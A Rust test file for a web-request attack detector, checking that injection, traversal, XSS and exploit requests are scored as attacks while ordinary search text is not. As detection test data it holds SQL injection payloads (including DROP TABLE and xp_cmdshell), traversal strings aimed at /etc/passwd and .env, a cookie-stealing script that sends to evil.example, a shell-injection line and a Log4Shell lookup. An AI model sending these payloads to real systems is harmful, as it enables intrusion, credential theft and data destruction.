//! What the content of a request says by itself, and what must be left alone.

#![allow(clippy::unwrap_used, reason = "a helper of tests fails its test by unwrapping")]

mod files;
mod packs;
mod repeated;

use observe::Policy;
use proptest::prelude::*;
use schemas::event::{BODY_BYTES_MAX, Part};
use schemas::{Category, Event, EventView, Header, Provenance, Record, Severity};
use scorer::detectors::Detectors;
use scorer::logic::content::EVIDENCE_BYTES_MAX;
use scorer::logic::{Hit, Rules};
use uuid::Uuid;

fn with_event<T>(uri: &str, look: impl FnOnce(&EventView<'_>) -> T) -> T {
    look(&event(uri).view())
}

fn event(uri: &str) -> Event {
    let event = Event {
        event_id: Uuid::from_u128(1),
        source: "test".to_owned(),
        uri: uri.to_owned(),
        status: Some(200),
        referer: Some("https://shop.example/".to_owned()),
        ..Event::request("81.2.69.142".parse().unwrap(), Provenance::SocketPeer, 0)
    };
    let mut bytes = Vec::new();
    event.encode(&mut bytes).unwrap();
    Event::decode(&bytes).unwrap().to_event()
}

fn hits(rules: &mut Rules, uri: &str) -> Vec<Hit> {
    with_event(uri, |event| rules.hits(event).unwrap().map(|rule| rules.hit(rule, event)).collect())
}

fn rules() -> Rules {
    Rules::new(&Policy::default(), &Detectors::shipped())
}

/// Each of `uris` is one of `categories`; without any, nothing is found in it.
#[track_caller]
fn check(categories: &[Category], uris: &[String]) {
    check_severity(&[Severity::Low, Severity::High], categories, uris);
}

#[track_caller]
fn check_severity(severities: &[Severity], categories: &[Category], uris: &[String]) {
    let mut rules = rules();
    let wrong = uris.iter().filter(|uri| {
        let found = hits(&mut rules, uri);
        let sure =
            |hit: &Hit| severities.contains(&hit.severity) && categories.contains(&hit.category);
        found.len() != usize::from(!categories.is_empty()) || !found.iter().all(sure)
    });
    let wrong: Vec<_> = wrong
        .map(|uri| {
            let found = hits(&mut self::rules(), uri);
            let short = found.iter().map(|hit| {
                (hit.severity, hit.category, hit.evidence.first().map(|piece| piece.rule.clone()))
            });
            format!("{uri}: {:?}", short.collect::<Vec<_>>())
        })
        .collect();
    assert!(wrong.is_empty(), "not {categories:?}:\n  {}", wrong.join("\n  "));
}

fn owned(uris: &[&str]) -> Vec<String> {
    uris.iter().map(|uri| (*uri).to_owned()).collect()
}

/// A value as a browser's form would send it.
fn form(value: &str) -> String {
    let mut uri = "/search?q=".to_owned();
    for byte in value.bytes() {
        match byte {
            b' ' => uri.push('+'),
            byte if byte.is_ascii_alphanumeric() || b"-_.*".contains(&byte) => {
                uri.push(char::from(byte))
            }
            byte => uri.push_str(&format!("%{byte:02X}")),
        }
    }
    uri
}

const INJECTIONS: &[&str] = &[
    "1' OR '1'='1",
    "1' or 1=1 -- ",
    "' or ''='",
    "admin'--",
    "admin' #",
    "admin'/*",
    "\" or \"a\"=\"a",
    "1 OR 1=1",
    "1) or (1=1",
    "1') or ('1'='1",
    "1' || '1'='1",
    "1' && 1=1#",
    "-1 or 2>1",
    "1' or true-- -",
    "1 UNION SELECT username, password FROM users",
    "1 UNION SELECT NULL,NULL--",
    "-1' UNION ALL SELECT 1,2,@@version-- ",
    "1 UNION SELECT 1",
    "1/**/UNION/**/SELECT/**/1,2",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    "1)union(select(1),2)",
    "union select password from users",
    "'; DROP TABLE users; --",
    "1; DROP TABLE users",
    "1; delete from users",
    "1'; exec xp_cmdshell('dir')",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND SLEEP(5)",
    "1' AND SLEEP(5) AND '1'='1",
    "1;select pg_sleep(5)",
    "1 and benchmark(5000000,md5(1))",
    "if(now()=sysdate(),sleep(15),0)",
    "1 and (select count(*) from users) > 0",
    "1 and ascii(substr((select password from users limit 1),1,1))>64",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "x' and 1=(select count(*) from tabname)--",
    "1 union select table_name from information_schema.tables",
    "1' order by 3--",
    "1' having 1=1--",
    "1' and '1'='2",
    "1\tor\t1=1",
    "1\nunion\nselect\n1",
];

const PROSE: &[&str] = &[
    "O'Brien",
    "select a size",
    "union jack",
    "drop by",
    "1-2",
    "a..b",
    "rock 'n' roll",
    "it's 5' or 6' tall",
    "Tom and Jerry",
    "black and white",
    "to be or not to be",
    "credit union selection",
    "insert coin; delete later",
    "where is my order",
    "order by phone",
    "how to sleep",
    "x = 1 or so",
    "dogs; cats",
    "R&D",
    "5 > 3",
    "what's \"new\"",
    "the boys' -- and girls' -- club",
    "SELECT your seat from the plan",
    "100% cotton -- blue",
    "l'été et l'hiver",
    "d'Artagnan and sons",
    "update your profile",
    "exec team",
    "cast iron",
    "1 and 2",
    "2 or 3 rooms",
    "a=b&c=d",
    "...",
    "wait for it...",
    "cats.. dogs",
    "50%",
    "version 1..2",
    "case when needed then call, else wait",
];

#[test]
fn ordinary_injections_are_caught_however_they_are_encoded() {
    let mut uris = owned(&["/item/1'%20or%20'1'='1", "/item?1'+or+'1'='1", "/x?id=1'OR'1'='1"]);
    for payload in INJECTIONS {
        let uri = form(payload);
        uris.push(uri.replace('+', "%20"));
        uris.push(uri.replace('+', "%20").replace('%', "%25"));
        uris.push(uri.replacen("/search?q=", "/search?a=1&b=2&id=", 1));
        uris.push(uri);
    }
    check(&[Category::SqlInjection], &uris);
}

/// What reads like an attack and is none: worth a note, never an action.
const DOUBTFUL: &[&str] = &[
    "union select committee",
    "sleep (8 hours)",
    "C++ || Java",
    "having fun 2=2",
    "benchmark (2024)",
    "..",
    "../home",
    "../",
];

#[test]
fn what_is_doubtful_never_suffices_alone() {
    for text in DOUBTFUL {
        for uri in [form(text), form(text).replace('+', "%20")] {
            let found = hits(&mut rules(), &uri);
            assert!(found.iter().all(|hit| hit.severity == Severity::Low), "{uri}: {found:?}");
        }
    }
    for uri in ["/a/../b", "/a/./b"] {
        let found = hits(&mut rules(), uri);
        assert!(found.iter().all(|hit| hit.severity == Severity::Low), "{uri}: {found:?}");
    }
}

#[test]
fn what_can_be_nothing_else_suffices_alone() {
    let plain = owned(&[
        "/products?id=7%20UNION%20SELECT%20username,password%20FROM%20users",
        "/products?id=1'%20OR%20'1'='1'--%20",
        "/download?file=../../../../etc/passwd",
        "/search?q=<script>document.location='//evil.example/?'%2Bdocument.cookie</script>",
        "/ping?host=127.0.0.1;cat%20/etc/passwd",
        "/?x=${jndi:ldap://evil.example/a}",
    ]);
    let all = [
        Category::SqlInjection,
        Category::PathTraversal,
        Category::Xss,
        Category::CommandInjection,
        Category::KnownExploit,
    ];
    check_severity(&[Severity::High], &all, &plain);
}

#[test]
fn prose_and_names_are_left_alone() {
    let ways = PROSE.iter().flat_map(|text| {
        let uri = form(text);
        [uri.replace('+', "%20"), uri.replacen("/search?q=", "/", 1), uri]
    });
    check(&[], &ways.collect::<Vec<_>>());
}

#[test]
fn climbing_paths_are_caught_however_they_are_encoded() {
    check(
        &[Category::PathTraversal, Category::SensitiveFile],
        &owned(&[
            "/../../etc/passwd",
            "/static/../../etc/passwd",
            "/static/../../",
            "/..%2f..%2fetc%2fpasswd",
            "/a/b/c/..%2f..%2fx",
            "/%2e%2e/",
            "/a/b/%2e%2e/c",
            "/%2e%2e%2fetc",
            "/%252e%252e%252fetc%252fpasswd",
            "/....//....//etc/passwd",
            "/..;/..;/manager",
            "/..%5c..%5cwindows%5cwin.ini",
            "/%c0%ae%c0%ae/etc",
            "/get?file=../../etc/passwd",
            "/get?file=..%2f..%2fetc%2fpasswd",
            "/get?file=..%2F..%2F",
            "/get?f=....//....//x",
            "/get?file=..%252f..%252fetc",
            "/get?file=%2e%2e/secret",
            "/get?file=../etc/passwd",
            "/get?f=..\\..\\boot.ini",
            "/get?file=/var/www/../../etc/passwd",
            "/get?file=../../../../etc/passwd%00.png",
            "/get?x=1&file=../.env",
        ]),
    );
}

#[test]
fn paths_that_stay_are_left_alone() {
    check(
        &[],
        &owned(&[
            "/",
            "/a..b",
            "/v1..2/x",
            "/file...txt",
            "/x?r=1..5",
            "/docs/a%2Fb",
            "/x?range=a...b",
            "/x?q=what....",
            "/...",
            "/x?q=....",
            "/.well-known/perimeter-probe",
            "/x?q=and../or..",
        ]),
    );
}

#[test]
fn a_credential_is_never_quoted() {
    for uri in ["/login?password=hunter2'+or+'1'='1", "/x?q=1'+or+'1'='1'+%26password%3Dhunter2"] {
        let found = hits(&mut rules(), uri);
        assert!(!found.is_empty(), "{uri}");
        assert!(!format!("{found:?}").contains("hunter2"), "{found:?}");
    }
}

#[test]
fn headers_and_bodies_are_read_and_what_was_not_is_told() {
    let header = |name: &str, value: String| Header { name: name.to_owned(), value };
    let attack = "a=${jndi:ldap://evil.example/a};b=1' union select password from users-- ";
    let whole = Event {
        headers: Some(vec![
            header("content-type", "text/plain".to_owned()),
            header("cookie", attack.repeat(10)),
        ]),
        body: Some("x".repeat(BODY_BYTES_MAX).into_bytes()),
        cut: [Part::Uri, Part::Body].into_iter().collect(),
        ..event(&format!("/?{}", "a=b&".repeat(2_000)))
    };
    let mut rules = rules();
    let view = whole.view();
    let hit = rules.hits(&view).unwrap().map(|rule| rules.hit(rule, &view)).next().unwrap();
    assert!(hit.evidence.iter().any(|piece| piece.place.starts_with("cookie")), "{hit:?}");
    let told = |rule: &str| hit.evidence.iter().find(|piece| piece.rule == rule);
    assert!(told("cut").unwrap().explanation.ends_with("uri, body"), "{hit:?}");
    assert!(told("not_read").unwrap().explanation.contains("were not read"), "{hit:?}");
    assert!(hit.evidence.len() <= schemas::detection::EVIDENCE_COUNT_MAX);
    let texts = |piece: &schemas::Evidence| {
        piece.rule.len() + piece.place.len() + piece.value.len() + piece.explanation.len()
    };
    assert!(hit.evidence.iter().map(texts).sum::<usize>() <= EVIDENCE_BYTES_MAX, "{hit:?}");
}

#[test]
fn the_weights_of_all_evidence_add_up_to_the_probability() {
    let policy = Policy::parse("[detection]\nprior = 0.2").unwrap();
    for uri in ["/x?q=1'+or+'1'='1", "/get?file=../../etc/passwd", "/x?q=<script>alert(1)</script>"]
    {
        let hit = hits(&mut Rules::new(&policy, &Detectors::shipped()), uri).pop().unwrap();
        let log_odds: f64 = hit.evidence.iter().map(|piece| piece.weight).sum();
        assert!((1.0 / (1.0 + (-log_odds).exp()) - hit.probability).abs() < 0.01, "{hit:?}");
        assert!(hit.evidence.last().unwrap().explanation.ends_with("π = 0.2"), "{hit:?}");
        assert!(hit.evidence.iter().any(|piece| piece.rule == "calibration"), "{hit:?}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_request_breaks_a_limit(uri in "(/|\\?|&|=|%|'|\"|\\.\\.|2e|union select|or 1=1|;|<script>|\\$\\(id\\)|\\PC){0,60}") {
        for hit in hits(&mut rules(), &uri) {
            prop_assert!((0.0..=1.0).contains(&hit.probability));
            prop_assert!(hit.evidence.len() <= schemas::detection::EVIDENCE_COUNT_MAX);
            let mut bytes = 0;
            for piece in &hit.evidence {
                prop_assert!(piece.value.len() <= schemas::detection::EVIDENCE_VALUE_BYTES_MAX);
                bytes += piece.rule.len() + piece.place.len() + piece.value.len() + piece.explanation.len();
            }
            prop_assert!(bytes <= EVIDENCE_BYTES_MAX);
        }
    }

    #[test]
    fn a_payload_is_found_wherever_it_stands(index in 0..INJECTIONS.len(), before in "[a-z]{1,8}=[a-z0-9]{0,8}") {
        let uri = form(INJECTIONS[index]).replacen("?", &format!("?{before}&"), 1);
        prop_assert!(!hits(&mut rules(), &uri).is_empty(), "{uri}");
    }
}
